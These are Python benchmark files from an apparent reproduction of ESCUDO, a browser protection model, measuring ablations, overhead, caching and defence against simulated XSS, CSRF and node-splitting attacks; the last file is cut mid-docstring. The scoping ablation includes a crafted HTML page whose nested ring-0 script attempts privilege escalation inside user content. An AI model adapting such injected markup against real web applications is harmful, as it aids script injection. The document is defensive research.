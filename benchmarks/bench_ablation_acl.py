"""Ablation: the ACL rule on top of the ring rule.

The ring rule alone cannot isolate two principals *in the same ring*: on the
phpBB topic page every user message lives in ring 3, so without ACLs a
malicious message could rewrite its neighbours.  Table 3 therefore gives
messages an ACL admitting only rings 0-2.  The ablation evaluates the same
message-to-message write requests with the full policy and with the ACL rule
switched off, and also times policy evaluation in both configurations (the
per-check cost of the extra rule).
"""

from __future__ import annotations

import pytest

from repro.attacks import build_environment, login_victim, visit
from repro.bench import format_table
from repro.core import EscudoPolicy, Operation, evaluate_matrix


def _page_contexts():
    env = build_environment("phpbb", "escudo")
    login_victim(env)
    loaded = visit(env, "/viewtopic?t=1")
    page = loaded.page
    first = page.document.get_element_by_id("post-body-1")
    second = page.document.get_element_by_id("post-body-2")
    return page, first, second


@pytest.mark.parametrize("acl_rule", [True, False], ids=["with-acl-rule", "without-acl-rule"])
def test_ablation_acl_verdicts(benchmark, acl_rule):
    """Same-ring message interference flips from deny to allow without ACLs."""
    page, first, second = _page_contexts()
    policy = EscudoPolicy(enforce_acl_rule=acl_rule)
    principal = page.principal_context_for(first)

    decision = benchmark(
        lambda: policy.check(principal, second.security_context, Operation.WRITE,
                             principal_label="message #1", object_label="message #2")
    )
    if acl_rule:
        assert decision.denied
    else:
        assert decision.allowed


def test_ablation_acl_report(benchmark, report_writer):
    """Summarise the ablation over the full principal × object matrix."""
    page, first, second = _page_contexts()
    chrome = page.document.get_element_by_id("forum-header")
    principals = [
        ("message #1", page.principal_context_for(first)),
        ("message #2", page.principal_context_for(second)),
    ]
    objects = [
        ("message #1", first.security_context),
        ("message #2", second.security_context),
        ("chrome", chrome.security_context),
    ]

    def evaluate(acl_rule: bool):
        return evaluate_matrix(EscudoPolicy(enforce_acl_rule=acl_rule), principals, objects,
                               (Operation.WRITE,))

    full = benchmark(lambda: evaluate(True))
    ablated = evaluate(False)

    rows = []
    for with_acl, without_acl in zip(full, ablated):
        rows.append(
            (
                f"{with_acl.principal_label} -> {with_acl.object_label}",
                "allow" if with_acl.allowed else "deny",
                "allow" if without_acl.allowed else "deny",
            )
        )
    table = format_table(
        ("write request", "full policy", "ACL rule disabled"),
        rows,
        title="Ablation: without the ACL rule, same-ring messages can interfere",
    )
    report_writer("ablation_acl", table)

    interference = [r for r in rows if "message" in r[0].split(" -> ")[1] and
                    r[0].split(" -> ")[0] != r[0].split(" -> ")[1]]
    assert all(r[1] == "deny" for r in interference)
    assert all(r[2] == "allow" for r in interference)
    # The ring rule still protects the chrome even without ACLs.
    chrome_rows = [r for r in rows if r[0].endswith("-> chrome")]
    assert all(r[2] == "deny" for r in chrome_rows)
