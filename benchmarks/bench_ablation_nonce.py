"""Ablation: markup randomisation (nonces) against node-splitting.

DESIGN.md calls out the per-AC-tag nonce as a load-bearing design choice: it
is what stops injected ``</div>`` terminators from splitting out of their
scope.  The ablation runs the node-splitting attack against the phpBB
miniature twice -- with markup randomisation on (the real system) and with
it disabled server-side -- and shows the attack flipping from neutralised to
successful while everything else stays the same (ESCUDO browser both times).
"""

from __future__ import annotations

import pytest

from repro.attacks import phpbb_node_splitting_attack
from repro.attacks.harness import build_environment, login_victim
from repro.bench import format_table


def _run(markup_randomization: bool):
    attack = phpbb_node_splitting_attack()
    env = build_environment(
        "phpbb",
        "escudo",
        app_kwargs={"markup_randomization": markup_randomization},
    )
    login_victim(env)
    attack.plant(env)
    attack.victim_action(env)
    return env, attack.succeeded(env)


@pytest.mark.parametrize("markup_randomization", [True, False], ids=["with-nonces", "without-nonces"])
def test_ablation_nonce_runtime(benchmark, markup_randomization):
    """Time the attack run under each variant (and record its outcome)."""
    env, succeeded = benchmark.pedantic(
        lambda: _run(markup_randomization), rounds=1, iterations=1
    )
    if markup_randomization:
        assert not succeeded
        assert env.loaded.page.ignored_end_tags >= 1
    else:
        assert succeeded


def test_ablation_nonce_report(report_writer):
    """Summarise the ablation as a table."""
    rows = []
    for markup_randomization in (True, False):
        env, succeeded = _run(markup_randomization)
        rows.append(
            (
                "on" if markup_randomization else "off",
                "SUCCEEDED" if succeeded else "neutralized",
                env.loaded.page.ignored_end_tags,
            )
        )
    table = format_table(
        ("markup randomisation", "node-splitting attack", "terminators ignored"),
        rows,
        title="Ablation: nonces are what stop node-splitting (ESCUDO browser in both rows)",
    )
    report_writer("ablation_nonce", table)
    assert rows[0][1] == "neutralized" and rows[1][1] == "SUCCEEDED"
