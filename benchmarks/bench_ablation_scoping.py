"""Ablation: the scoping rule against statically nested privilege claims.

A page author (or an attacker whose markup survives filtering) nests a
``<div ring="0">`` carrying a script *inside* a ring-3 scope.  With the
scoping rule, the nested claim is clamped to ring 3 and the script stays
powerless; with the rule disabled (ablation only), the nested claim is
honoured and the script escalates to ring 0.
"""

from __future__ import annotations

import pytest

from repro.bench import format_table
from repro.browser import Browser
from repro.core import Acl, PageConfiguration, ResourcePolicy, Ring
from repro.http import HttpResponse, Network

PAGE = """<!DOCTYPE html><html><head><title>scoping ablation</title></head><body>
<div ring="1" r="1" w="1" x="1">
  <p id="status">all systems nominal</p>
</div>
<div ring="3" r="2" w="2" x="2">
  user content starts here
  <div ring="0" r="0" w="0" x="0">
    <script>
      var status = document.getElementById('status');
      if (status != null) { status.textContent = 'escalated via nested ring claim'; }
    </script>
  </div>
</div>
</body></html>"""


class _Server:
    def handle_request(self, request):
        response = HttpResponse.html(PAGE)
        configuration = PageConfiguration()
        configuration.cookie_policies["sid"] = ResourcePolicy(ring=Ring(1), acl=Acl.uniform(1))
        response.apply_escudo_headers(configuration)
        response.set_cookie("sid", "token")
        return response


def _run(enforce_scoping: bool):
    network = Network()
    network.register("http://scoping.example.com", _Server())
    browser = Browser(network, model="escudo", enforce_scoping=enforce_scoping)
    loaded = browser.load("http://scoping.example.com/")
    status = loaded.page.document.get_element_by_id("status")
    escalated = "escalated" in status.text_content
    nested_script = loaded.page.document.scripts()[0]
    return loaded, escalated, nested_script.security_context.ring.level


@pytest.mark.parametrize("enforce_scoping", [True, False], ids=["with-scoping", "without-scoping"])
def test_ablation_scoping_runtime(benchmark, enforce_scoping):
    """Load the crafted page under each variant and check the outcome."""
    loaded, escalated, script_ring = benchmark.pedantic(
        lambda: _run(enforce_scoping), rounds=1, iterations=1
    )
    if enforce_scoping:
        assert not escalated
        assert script_ring == 3
        assert loaded.page.labeling.scoping_clamps >= 1
    else:
        assert escalated
        assert script_ring == 0


def test_ablation_scoping_report(report_writer):
    """Summarise the ablation."""
    rows = []
    for enforce in (True, False):
        _, escalated, script_ring = _run(enforce)
        rows.append(
            ("on" if enforce else "off", script_ring, "SUCCEEDED" if escalated else "neutralized")
        )
    table = format_table(
        ("scoping rule", "ring of nested script", "escalation attempt"),
        rows,
        title="Ablation: the scoping rule clamps nested privilege claims",
    )
    report_writer("ablation_scoping", table)
    assert rows[0][2] == "neutralized" and rows[1][2] == "SUCCEEDED"
