"""Static-analysis tier benchmark: throughput, memoisation and screen overhead.

Analyzes the mixed attack/benign script corpus cold and through the report
cache, then times a scenario suite with the soundness screen attached vs.
detached.  Writes ``benchmarks/results/BENCH_analysis.json``; the CI
``static-analysis`` job runs a scaled-down smoke through the same code
path and uploads the artifact.
"""

from __future__ import annotations

import os
from pathlib import Path

from repro.bench import (
    ANALYSIS_RESULTS_NAME,
    format_analysis_report,
    measure_analysis,
    write_analysis_report,
)

RESULTS_DIR = Path(__file__).parent / "results"

VARIANTS = int(os.environ.get("REPRO_ANALYSIS_VARIANTS", "20"))
REPEATS = int(os.environ.get("REPRO_ANALYSIS_REPEATS", "5"))
SCENARIOS = int(os.environ.get("REPRO_ANALYSIS_SCENARIOS", "12"))

#: CI gate: attaching the screen to the scenario suite must stay cheap.
OVERHEAD_CEILING_PCT = 10.0


def test_static_analysis_tier(benchmark, report_writer):
    """Measure the analyzer and certify the screened-suite overhead bound."""
    report = benchmark.pedantic(
        lambda: measure_analysis(
            variants=VARIANTS, repeats=REPEATS, scenario_count=SCENARIOS
        ),
        rounds=1,
        iterations=1,
    )
    assert report["corpus"]["distinct_digests"] == report["corpus"]["scripts"]
    assert report["cold"]["scripts_per_second"] > 0
    # Re-serving the corpus must be cache hits, and the memoised path must
    # beat the cold path outright.
    assert report["memoised"]["hit_rate"] > 0.5
    assert (
        report["memoised"]["scripts_per_second"] > report["cold"]["scripts_per_second"]
    )
    suite = report["suite"]
    assert suite["digest_parity"], "screen changed scenario digests"
    assert suite["soundness"]["scripts"] > 0
    assert suite["overhead_pct"] < OVERHEAD_CEILING_PCT, (
        f"static screen costs {suite['overhead_pct']:.2f}% on the scenario "
        f"suite (ceiling {OVERHEAD_CEILING_PCT}%)"
    )

    path = write_analysis_report(report, RESULTS_DIR / ANALYSIS_RESULTS_NAME)
    report_writer("static_analysis", format_analysis_report(report) + f"\n[json artifact: {path}]")
