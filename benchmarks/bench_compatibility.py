"""Section 6.3: compatibility with legacy applications and browsers.

Two claims are checked:

1. ESCUDO-configured applications work in non-ESCUDO browsers -- the AC
   attributes and the optional headers are simply ignored, and the
   application's own scripts keep functioning.
2. Non-ESCUDO (legacy) applications work in ESCUDO browsers -- with no
   configuration, every principal and object collapses into a single ring,
   so the ESCUDO policy yields exactly the same verdicts as the same-origin
   policy.
"""

from __future__ import annotations

import pytest

from repro.bench import format_table
from repro.browser import Browser
from repro.core import EscudoPolicy, Operation, SameOriginPolicy, evaluate_matrix
from repro.http import Network
from repro.webapps import PhpBB


def _load(model: str, *, escudo_app: bool):
    app = PhpBB(escudo_enabled=escudo_app, input_validation=False)
    network = Network()
    network.register(app.origin, app)
    browser = Browser(network, model=model)
    loaded = browser.load(f"{app.origin}/viewtopic?t=1")
    return app, browser, loaded


@pytest.mark.parametrize("model", ["escudo", "sop"])
@pytest.mark.parametrize("escudo_app", [True, False], ids=["escudo-app", "legacy-app"])
def test_compatibility_load(benchmark, model, escudo_app):
    """Every app/browser combination loads and its trusted scripts run."""
    def load_once():
        _, _, loaded = _load(model, escudo_app=escudo_app)
        return loaded

    loaded = benchmark.pedantic(load_once, rounds=3, iterations=1)
    page = loaded.page
    # The application's own (trusted) scripts must work in every combination.
    assert all(run.succeeded for run in page.script_runs), [
        str(run.result.error) for run in page.script_runs if run.result.failed
    ]
    badge = page.document.get_element_by_id("unread-count")
    assert badge is not None and badge.text_content.strip().isdigit()


def test_legacy_app_escudo_policy_equals_sop(benchmark, report_writer):
    """For unconfigured pages the ESCUDO verdicts equal the SOP verdicts."""
    _, _, loaded = _load("escudo", escudo_app=False)
    page = loaded.page
    elements = list(page.document.elements())
    principals = [(f"<{el.tag_name}>", el.security_context) for el in elements[:25]]
    objects = [(f"<{el.tag_name}>", el.security_context) for el in elements[:25]]

    def verdicts():
        escudo = evaluate_matrix(EscudoPolicy(), principals, objects, tuple(Operation))
        sop = evaluate_matrix(SameOriginPolicy(), principals, objects, tuple(Operation))
        return escudo, sop

    escudo_decisions, sop_decisions = benchmark(verdicts)
    mismatches = sum(
        1 for e, s in zip(escudo_decisions, sop_decisions) if e.verdict is not s.verdict
    )
    rows = [
        ("decisions compared", len(escudo_decisions)),
        ("verdict mismatches", mismatches),
        ("escudo allows", sum(1 for d in escudo_decisions if d.allowed)),
        ("sop allows", sum(1 for d in sop_decisions if d.allowed)),
    ]
    report_writer(
        "compatibility",
        format_table(("quantity", "value"), rows,
                     title="Section 6.3: legacy page -- ESCUDO collapses to the same-origin policy"),
    )
    assert mismatches == 0


def test_escudo_app_in_legacy_browser_keeps_working(report_writer):
    """ESCUDO markup is inert in a non-ESCUDO browser (attributes ignored)."""
    app, browser, loaded = _load("sop", escudo_app=True)
    page = loaded.page
    # The page parsed, the AC attributes are still present but unenforced,
    # and the application's scripts ran with full legacy privileges.
    assert not page.escudo_enabled
    assert page.monitor.model_name == "same-origin"
    scopes = [el for el in page.document.elements() if el.get_attribute("ring") is not None]
    assert scopes, "the ESCUDO app should still emit its (ignored) AC tags"
    assert all(run.succeeded for run in page.script_runs)
