"""Compile-cache speedups: cold vs warm pipelines on identical workloads.

Runs the five compile-cache workloads (page compilation, script front end,
bytecode-VM script execution, warm-start mediation, end-to-end scenarios),
certifies that every cached pipeline is observably identical to its cold
twin, asserts the committed speedup floors, and writes
``benchmarks/results/BENCH_compile_cache.json`` for the CI ``perf-smoke``
job.

Floors asserted here (and re-asserted by CI on every push):

* warm-start mediation ≥ 3x over fresh per-page decision caches;
* bytecode VM ≥ 3x over the AST walker on the script-heavy payload;
* page compilation and the script front end ≥ 2x warm over cold;
* scenario throughput at one worker, warm worker at steady state, ≥ 2x the
  pinned PR-3 baseline (``BENCH_scenarios_seed.json``) -- the artifact this
  PR's headline claim is measured against -- with the first warm pass
  already faster than the cold pipeline;
* every parity flag true -- caches must change speed, never verdicts.
"""

from __future__ import annotations

from pathlib import Path

from repro.bench import (
    COMPILE_CACHE_RESULTS_NAME,
    SEED_SCENARIOS_NAME,
    format_compile_cache_report,
    measure_compile_cache,
    write_compile_cache_report,
)

RESULTS_DIR = Path(__file__).parent / "results"

#: Fixed workload sizes so runs are comparable across commits.
PAGE_LOADS = 60
SCRIPT_RUNS = 300
SCRIPT_VM_RUNS = 200
MEDIATION_PAGES = 60
SCENARIO_SEED = 42
SCENARIO_COUNT = 25
ATTACK_RATIO = 0.25


def test_compile_cache_speedups(benchmark, report_writer):
    """Time the cold/warm pairs, assert the floors, write the artifact."""
    payload = benchmark.pedantic(
        lambda: measure_compile_cache(
            page_loads=PAGE_LOADS,
            script_runs=SCRIPT_RUNS,
            script_vm_runs=SCRIPT_VM_RUNS,
            mediation_pages=MEDIATION_PAGES,
            scenario_seed=SCENARIO_SEED,
            scenario_count=SCENARIO_COUNT,
            attack_ratio=ATTACK_RATIO,
            seed_baseline_path=RESULTS_DIR / SEED_SCENARIOS_NAME,
        ),
        rounds=1,
        iterations=1,
    )

    # Parity before speed: a fast wrong answer is a failed benchmark.
    assert payload["verdict_parity"], "caches changed observable behaviour"
    assert payload["page_compile"]["parity"]
    assert payload["script_ast"]["parity"]
    assert payload["script_vm"]["parity"]
    assert payload["warm_mediation"]["parity"]
    assert payload["scenarios"]["cold_ok"] and payload["scenarios"]["warm_ok"]

    # Committed speedup floors.
    assert payload["mediation_warm_speedup"] >= 3.0, (
        f"warm-start mediation speedup {payload['mediation_warm_speedup']:.2f}x < 3x"
    )
    assert payload["page_compile_speedup"] >= 2.0, (
        f"page compile speedup {payload['page_compile_speedup']:.2f}x < 2x"
    )
    assert payload["script_ast_speedup"] >= 2.0, (
        f"script front-end speedup {payload['script_ast_speedup']:.2f}x < 2x"
    )
    assert payload["script_vm_speedup"] >= 3.0, (
        f"bytecode VM speedup {payload['script_vm_speedup']:.2f}x < 3x over the walker"
    )
    assert payload["scenario_speedup"] > 1.0, (
        f"the first warm pass ({payload['scenario_speedup']:.2f}x) must already "
        "beat the cold pipeline"
    )
    # The 2x scenario floor, satisfiable by either measure: steady state vs
    # the same-machine cold run (machine-invariant -- the cold pipeline IS
    # the PR-3 pipeline, re-measured under identical conditions), or steady
    # state vs the pinned PR-3 artifact (the committed absolute claim, which
    # a slower CI host could undershoot even with the caches working
    # perfectly).  A real cache regression fails both.
    assert "speedup_vs_seed" in payload, "pinned PR-3 baseline artifact missing"
    assert payload["scenario_steady_speedup"] >= 2.0 or payload["speedup_vs_seed"] >= 2.0, (
        f"steady-state scenario throughput {payload['scenarios_per_second']:.1f}/s "
        f"is only {payload['scenario_steady_speedup']:.2f}x the same-machine cold "
        f"run and {payload['speedup_vs_seed']:.2f}x the pinned PR-3 baseline "
        f"({payload['scenarios_per_second_seed']:.1f}/s); the floor is 2x on at "
        "least one measure"
    )

    path = write_compile_cache_report(payload, RESULTS_DIR / COMPILE_CACHE_RESULTS_NAME)
    report_writer(
        "compile_cache", format_compile_cache_report(payload) + f"\n[json artifact: {path}]"
    )
