"""Section 6.4: defense effectiveness.

The paper builds 4 XSS attacks and 5 CSRF attacks per application (with the
applications' own defences removed) and reports that every attack is
neutralised by ESCUDO.  This benchmark runs the full corpus under both
protection models, regenerates the results table, and asserts the headline
claim: 0 successes under ESCUDO, all successes under the legacy model.
"""

from __future__ import annotations

import pytest

from repro.attacks import (
    all_csrf_attacks,
    all_node_splitting_attacks,
    all_privilege_escalation_attacks,
    all_xss_attacks,
    defense_effectiveness_matrix,
    run_attacks,
    summarize,
)
from repro.bench import format_defense_matrix

CORE_CORPUS = all_xss_attacks() + all_csrf_attacks()
EXTENDED_CORPUS = CORE_CORPUS + all_node_splitting_attacks() + all_privilege_escalation_attacks()


@pytest.mark.parametrize("model", ["escudo", "sop"])
def test_attack_corpus_runtime(benchmark, model):
    """Time one full sweep of the paper's 18-attack corpus under one model."""
    results = benchmark.pedantic(lambda: run_attacks(CORE_CORPUS, model), rounds=1, iterations=1)
    stats = summarize(results)
    assert stats["total"] == len(CORE_CORPUS)
    if model == "escudo":
        assert stats["succeeded"] == 0, [r.attack_name for r in results if r.succeeded]
    else:
        assert stats["neutralized"] == 0, [r.attack_name for r in results if not r.succeeded]


def test_defense_matrix_report(benchmark, report_writer):
    """Regenerate the Section 6.4 matrix (including the Section 5 attacks)."""
    results = benchmark.pedantic(
        lambda: defense_effectiveness_matrix(EXTENDED_CORPUS), rounds=1, iterations=1
    )
    table = format_defense_matrix(results)
    escudo_stats = summarize(results["escudo"])
    sop_stats = summarize(results["sop"])
    summary = (
        f"\nESCUDO: {escudo_stats['succeeded']}/{escudo_stats['total']} attacks succeeded "
        f"(paper: 0)\nSOP:    {sop_stats['succeeded']}/{sop_stats['total']} attacks succeeded"
    )
    report_writer("defense_effectiveness", table + summary)
    assert escudo_stats["succeeded"] == 0
    assert sop_stats["succeeded"] == sop_stats["total"]
