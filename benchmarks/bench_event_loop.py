"""Event-loop throughput: tasks/s drained, mediations/s under deferred load.

Runs the three event-loop workloads (raw scheduling, mediated timer
callbacks, deferred XHR completions), writes
``benchmarks/results/BENCH_event_loop.json`` for the CI ``event-loop`` job,
and asserts the structural claims that must hold on any hardware:

* every workload makes progress (positive throughput);
* the mediated-timer workload's decision cache is hot -- repeated timer
  callbacks by the same principal are the repeated-access pattern the cache
  memoises, so the hit rate must be high even though every access is still
  individually recorded;
* every queued async XHR completes exactly once when the loop drains.
"""

from __future__ import annotations

from pathlib import Path

from repro.bench import (
    EVENT_LOOP_RESULTS_NAME,
    format_event_loop_report,
    measure_event_loop,
    write_event_loop_report,
)

RESULTS_DIR = Path(__file__).parent / "results"

#: Fixed workload sizes so runs are comparable across commits.
TASK_COUNT = 20_000
TIMER_COUNT = 5_000
XHR_COUNT = 300


def test_event_loop_throughput(benchmark, report_writer):
    """Time the event-loop workloads and write the JSON artifact."""
    payload = benchmark.pedantic(
        lambda: measure_event_loop(
            task_count=TASK_COUNT, timer_count=TIMER_COUNT, xhr_count=XHR_COUNT
        ),
        rounds=1,
        iterations=1,
    )

    assert payload["tasks_per_second"] > 0
    assert payload["scheduling"]["tasks"] == TASK_COUNT

    mediated = payload["mediated_timers"]
    assert mediated["mediations"] == TIMER_COUNT, "every timer callback mediates once"
    assert payload["mediations_per_second"] > 0
    # Two distinct target contexts over thousands of callbacks: everything
    # after the first pair of lookups is a decision-cache hit.
    assert payload["cache_hit_rate"] > 0.9, (
        f"deferred repeated mediation must be cache-hot, got {payload['cache_hit_rate']:.3f}"
    )

    xhrs = payload["deferred_xhrs"]
    assert xhrs["completions"] == XHR_COUNT, "each queued send drains exactly once"
    assert xhrs["xhr_completions_per_second"] > 0

    path = write_event_loop_report(payload, RESULTS_DIR / EVENT_LOOP_RESULTS_NAME)
    report_writer("event_loop", format_event_loop_report(payload) + f"\n[json artifact: {path}]")
