"""Fault-injection plane: chaos oracle smoke + disabled-plane overhead gate.

A scaled-down version of the full ``python -m repro.faults`` matrix (which
the CI ``chaos`` job runs at 200 schedules): the differential properties
must hold on a small matrix, the armed-but-empty plane must be byte-passive,
and the disabled-plane overhead stays under the committed gate.  Writes the
``benchmarks/results/BENCH_faults.json`` artifact.
"""

from __future__ import annotations

from pathlib import Path

from repro.bench.faults_bench import (
    FAULTS_RESULTS_NAME,
    OVERHEAD_GATE_PERCENT,
    build_faults_report,
    measure_disabled_overhead,
    measure_throughput_vs_rate,
    write_faults_report,
)
from repro.scenarios.chaos import check_passivity, run_chaos_matrix

RESULTS_DIR = Path(__file__).parent / "results"

#: Fixed workload so runs are comparable across commits.
SEED = 42
COUNT = 10
SCHEDULES = 2
RATE = 0.15


def test_fault_plane_chaos_and_overhead(benchmark, report_writer):
    """Fail-closed + convergent + passive, and cheap when disabled."""
    chaos = benchmark.pedantic(
        lambda: run_chaos_matrix(
            seed=SEED, count=COUNT, schedules=SCHEDULES, rate=RATE
        ),
        rounds=1,
        iterations=1,
    )
    assert chaos.ok, (chaos.fail_open, chaos.diverged)
    assert chaos.runs_faulted == COUNT * SCHEDULES * 2
    assert sum(chaos.faults.get("injected", {}).values()) > 0, (
        "the matrix must actually inject faults"
    )

    passivity = check_passivity(seed=SEED, count=8, workers=2)
    assert passivity["ok"], passivity["checks"]

    throughput = measure_throughput_vs_rate(seed=SEED, count=COUNT)
    assert all(point["ok"] for point in throughput)

    overhead = measure_disabled_overhead(seed=SEED, count=40, repeats=9)
    assert overhead["ok"], (
        f"disabled-plane overhead {overhead['overhead_percent']:.2f}% "
        f"breached the {OVERHEAD_GATE_PERCENT}% gate"
    )

    payload = build_faults_report(
        chaos=chaos.as_dict(),
        passivity=passivity,
        throughput=throughput,
        overhead=overhead,
    )
    path = write_faults_report(payload, RESULTS_DIR / FAULTS_RESULTS_NAME)
    report_writer(
        "fault_plane",
        (
            f"chaos: {chaos.runs_faulted} fault runs, 0 fail-open, 0 diverged, "
            f"{chaos.degraded} degraded (retries off) | passivity: ok | "
            f"overhead: {overhead['overhead_percent']:+.2f}% "
            f"(gate < {OVERHEAD_GATE_PERCENT}%)\n[json artifact: {path}]"
        ),
    )
