"""Figure 4: ESCUDO overhead on parsing and rendering.

The paper loads 8 pages with varying amounts of AC tags and dynamic content,
with and without ESCUDO, averaging 90 runs, and reports ≈5.09 % average
overhead.  These benchmarks time the same pipeline (parse → extract
configuration → label → render) on the 8 generated scenarios under both
models, and the summary benchmark writes the Figure-4 style table.

Expected shape: ESCUDO adds a small relative overhead that stays roughly
flat (low double digits at worst in this pure-Python pipeline) as pages grow.
"""

from __future__ import annotations

import pytest

from repro.bench import all_workloads, average_overhead, format_figure4, measure_all
from repro.bench.timing import parse_and_render

WORKLOADS = all_workloads()


@pytest.mark.parametrize("workload", WORKLOADS, ids=[w.name for w in WORKLOADS])
@pytest.mark.parametrize("model", ["without-escudo", "with-escudo"])
def test_fig4_parse_render(benchmark, workload, model):
    """Time one scenario under one model (the raw Figure 4 data points)."""
    escudo = model == "with-escudo"
    page = benchmark(lambda: parse_and_render(workload, escudo=escudo))
    assert page.document.count_elements() > 0
    if escudo:
        assert page.escudo_enabled
        assert page.labeling.ac_tags == workload.spec.ac_tags
    else:
        assert not page.escudo_enabled


def test_fig4_summary_table(benchmark, report_writer):
    """Regenerate the Figure-4 table and check the overhead's shape."""
    rows = benchmark.pedantic(
        lambda: measure_all(WORKLOADS, repetitions=45),
        rounds=1,
        iterations=1,
    )
    table = format_figure4(rows)
    report_writer("fig4_overhead", table)
    overhead = average_overhead(rows)
    # Paper: ~5 %.  The pure-Python pipeline has a much lighter baseline than
    # the Lobo browser, so the same per-tag bookkeeping is relatively more
    # visible; anything wildly larger indicates a regression.
    assert overhead < 60.0, f"average ESCUDO overhead unexpectedly high: {overhead:.1f}%"
    # Every scenario must actually have exercised ESCUDO bookkeeping.
    assert all(row.ac_tags > 0 for row in rows)
