"""Figure 4: ESCUDO overhead on parsing and rendering.

The paper loads 8 pages with varying amounts of AC tags and dynamic content,
with and without ESCUDO, averaging 90 runs, and reports ≈5.09 % average
overhead.  These benchmarks time the same pipeline (parse → extract
configuration → label → render) on the 8 generated scenarios under both
models, and the summary benchmark writes the Figure-4 style table.

Expected shape: ESCUDO adds a small relative overhead that stays roughly
flat (low double digits at worst in this pure-Python pipeline) as pages grow.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from repro.bench import (
    MEDIATION_SPEC,
    all_workloads,
    average_overhead,
    format_figure4,
    format_mediation_report,
    measure_all,
    measure_mediation,
)
from repro.bench.timing import parse_and_render

WORKLOADS = all_workloads()

#: JSON artifact with the mediation-pipeline numbers (throughput, hit rate).
MEDIATION_ARTIFACT = Path(__file__).parent / "results" / "BENCH_mediation.json"


@pytest.mark.parametrize("workload", WORKLOADS, ids=[w.name for w in WORKLOADS])
@pytest.mark.parametrize("model", ["without-escudo", "with-escudo"])
def test_fig4_parse_render(benchmark, workload, model):
    """Time one scenario under one model (the raw Figure 4 data points)."""
    escudo = model == "with-escudo"
    page = benchmark(lambda: parse_and_render(workload, escudo=escudo))
    assert page.document.count_elements() > 0
    if escudo:
        assert page.escudo_enabled
        assert page.labeling.ac_tags == workload.spec.ac_tags
    else:
        assert not page.escudo_enabled


def test_fig4_summary_table(benchmark, report_writer):
    """Regenerate the Figure-4 table and check the overhead's shape."""
    rows = benchmark.pedantic(
        lambda: measure_all(WORKLOADS, repetitions=45),
        rounds=1,
        iterations=1,
    )
    table = format_figure4(rows)
    report_writer("fig4_overhead", table)
    overhead = average_overhead(rows)
    # Paper: ~5 %.  The pure-Python pipeline has a much lighter baseline than
    # the Lobo browser, so the same per-tag bookkeeping is relatively more
    # visible; anything wildly larger indicates a regression.
    assert overhead < 60.0, f"average ESCUDO overhead unexpectedly high: {overhead:.1f}%"
    # Every scenario must actually have exercised ESCUDO bookkeeping, and the
    # mediation columns must reflect real mediated sweeps over each page.
    assert all(row.ac_tags > 0 for row in rows)
    assert all(row.mediations > 0 for row in rows)


def test_mediation_throughput(report_writer):
    """Mediation pipeline: warm decision cache vs. uncached monitor.

    A repeated-access workload (>=10k authorizations over 96 distinct request
    keys -- the shape of traversal sweeps and event dispatch) must run at
    least 2x faster through a warm cache than through the uncached monitor,
    with identical verdicts.  Writes the ``BENCH_mediation.json`` artifact.
    """
    comparison = measure_mediation(MEDIATION_SPEC)
    report_writer("mediation_throughput", format_mediation_report(comparison))
    MEDIATION_ARTIFACT.parent.mkdir(exist_ok=True)
    MEDIATION_ARTIFACT.write_text(
        json.dumps(comparison.as_dict(), indent=2) + "\n", encoding="utf-8"
    )

    assert comparison.spec.total_requests >= 10_000
    assert comparison.cached.total == comparison.uncached.total == comparison.spec.total_requests
    # The cache must change nothing but speed.
    assert comparison.verdicts_identical
    # The stream deliberately mixes allow and deny verdicts.
    assert comparison.cached.allowed > 0 and comparison.cached.denied > 0
    # Warm cache: every timed request is a hit, and throughput at least
    # doubles (locally ~3x; the bound leaves headroom for noisy CI boxes).
    assert comparison.cached.cache_hit_rate > 0.99
    assert comparison.speedup >= 2.0, (
        f"warm-cache mediation speedup {comparison.speedup:.2f}x below the 2x floor "
        f"({comparison.cached.mediations_per_second:,.0f}/s cached vs "
        f"{comparison.uncached.mediations_per_second:,.0f}/s uncached)"
    )
