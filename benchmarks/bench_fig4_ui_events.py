"""Section 6.5, UI events: "we did not notice any overhead for UI event handling".

The benchmark loads the phpBB topic page (which carries inline handlers after
we add them) and fires a storm of click/mouseover events at labelled
elements, under ESCUDO and under the legacy model.  The comparison shows the
per-event mediation cost.
"""

from __future__ import annotations

import pytest

from repro.attacks import build_environment, login_victim, visit
from repro.bench import format_table


def _prepare(model: str):
    env = build_environment("phpbb", model)
    login_victim(env)
    loaded = visit(env, "/viewtopic?t=1")
    page = loaded.page
    # Attach an inline handler to the reply form so event delivery has work to do.
    form = page.document.get_element_by_id("reply-form")
    form.set_attribute("onclick", "var x = 1 + 1;")
    targets = [el for el in (
        page.document.get_element_by_id("post-body-1"),
        page.document.get_element_by_id("whoami"),
        form,
    ) if el is not None]
    return env, loaded, targets


def _fire_storm(loaded, targets, rounds: int = 20) -> int:
    delivered = 0
    for _ in range(rounds):
        for element in targets:
            result = loaded.events.fire(element, "click")
            delivered += len(result.delivered_to)
            result = loaded.events.fire(element, "mouseover")
            delivered += len(result.delivered_to)
    return delivered


@pytest.mark.parametrize("model", ["escudo", "sop"])
def test_ui_event_dispatch(benchmark, model):
    """Time a storm of user-initiated events under one model."""
    env, loaded, targets = _prepare(model)
    delivered = benchmark(lambda: _fire_storm(loaded, targets, rounds=5))
    assert delivered > 0


def test_ui_event_summary(report_writer):
    """Report delivered/blocked counts per model (user events always deliver)."""
    rows = []
    for model in ("escudo", "sop"):
        env, loaded, targets = _prepare(model)
        before = loaded.page.monitor.stats.total
        delivered = _fire_storm(loaded, targets, rounds=2)
        mediations = loaded.page.monitor.stats.total - before
        rows.append((model, delivered, mediations, loaded.page.monitor.stats.denied))
    table = format_table(
        ("model", "events delivered", "mediations", "denied"),
        rows,
        title="UI event handling (Section 6.5): user-initiated events are unaffected by ESCUDO",
    )
    report_writer("fig4_ui_events", table)
    # User-initiated events must be delivered under both models.
    assert all(row[1] > 0 for row in rows)
