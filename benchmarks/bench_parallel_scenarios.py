"""Work-stealing sharded scenario throughput: 1 / 2 / 4 workers + floors.

Sweeps the parallel executor over worker counts, certifies that every
sharded run's merged report is byte-identical to the serial baseline, and
writes ``benchmarks/results/BENCH_parallel_scenarios.json`` (scenarios/s,
speedup vs serial, per-worker steal counts and cache hit rates, cold-start
amortization, scheduling efficiency) which the CI ``parallel-scenarios``
job uploads.

Two floors are asserted here (and re-checked by the CI gate step from the
JSON artifact):

* **scheduling efficiency >= 0.8 at 4 workers** on the dedicated
  efficiency run -- busy worker-seconds over available worker-seconds, the
  hardware-independent measure of straggler/idle loss that work stealing
  exists to fix (raw speedup stays informational: it is bounded by the
  host's core count, which the payload records);
* **warm-shipped workers pay fewer compile misses than cold workers** --
